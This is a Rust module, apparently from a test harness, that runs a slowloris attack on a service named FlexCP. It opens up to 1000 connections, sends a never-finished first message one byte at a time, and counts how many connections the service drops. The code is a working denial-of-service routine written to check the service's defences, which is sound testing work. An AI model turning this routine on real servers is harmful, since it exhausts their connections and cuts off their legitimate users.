//! Clients that are let in, and then say byte by byte what never comes to an end (slow loris).

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};

use super::aim::Sent;
use crate::transfer::raise_file_limit;

/// What they say, and to whom.
#[derive(Debug)]
pub(super) struct Loris {
    pub(super) service: SocketAddr,
    /// All but the end of what a client says first.
    pub(super) said: Vec<u8>,
    /// Bytes a second, of all of them.
    pub(super) rate: u32,
}

/// One of them, and how much it has said.
struct Client {
    stream: TcpStream,
    said: usize,
}

impl Client {
    /// Whether FlexCP has ended it.
    fn is_over(&mut self) -> bool {
        let mut answer = [0; 16];
        match self.stream.read(&mut answer) {
            Ok(0) => true,
            Ok(_) => false,
            Err(error) => error.kind() != ErrorKind::WouldBlock,
        }
    }
}

impl Loris {
    /// Opens one after the other until told to stop, then waits until FlexCP has ended all, for as long as it should take.
    pub(super) fn run(&self, stop: impl Fn() -> bool) -> Result<Sent> {
        raise_file_limit()?;
        let began = Instant::now();
        let mut sent = Sent::default();
        let mut clients: Vec<Client> = vec![];
        let mut next = 0;
        while !stop() {
            if sent.bombs.0 < CLIENTS {
                for _ in 0..AT_ONCE {
                    clients.push(self.open()?);
                    sent.bombs.0 += 1;
                }
            }
            for _ in 0..self.rate / TURNS_A_SECOND {
                next += 1;
                let Some(client) = clients.get_mut(next) else {
                    next = 0;
                    continue;
                };
                if let Some(byte) = self.said.get(client.said)
                    && client.stream.write(&[*byte]).is_ok()
                {
                    client.said += 1;
                    sent.packets += 1;
                    sent.bytes += BYTES;
                }
            }
            sent.bombs.1 += end_over(&mut clients);
            thread::sleep(TURN);
        }
        sent.took = began.elapsed();
        let limit = Instant::now() + PATIENCE;
        while !clients.is_empty() && Instant::now() < limit {
            sent.bombs.1 += end_over(&mut clients);
            thread::sleep(TURN);
        }
        Ok(sent)
    }

    fn open(&self) -> Result<Client> {
        let stream = TcpStream::connect_timeout(&self.service, PATIENCE)
            .context("a hostile client is not let in")?;
        stream.set_nodelay(true)?;
        stream.set_nonblocking(true)?;
        Ok(Client { stream, said: 0 })
    }
}

/// Lets go of those that are over, and counts them.
fn end_over(clients: &mut Vec<Client>) -> u64 {
    let before = clients.len();
    clients.retain_mut(|client| !client.is_over());
    (before - clients.len()) as u64
}

/// How many there are in the end.
const CLIENTS: u64 = 1000;
/// How many come in one turn.
const AT_ONCE: u64 = 10;
const TURNS_A_SECOND: u32 = 50;
const TURN: Duration = Duration::from_millis(20);
/// FlexCP gives a client 10 s to say whom it wants.
const PATIENCE: Duration = Duration::from_secs(13);
/// A packet with one byte: 20 of IP, 32 of TCP.
const BYTES: u64 = 53;
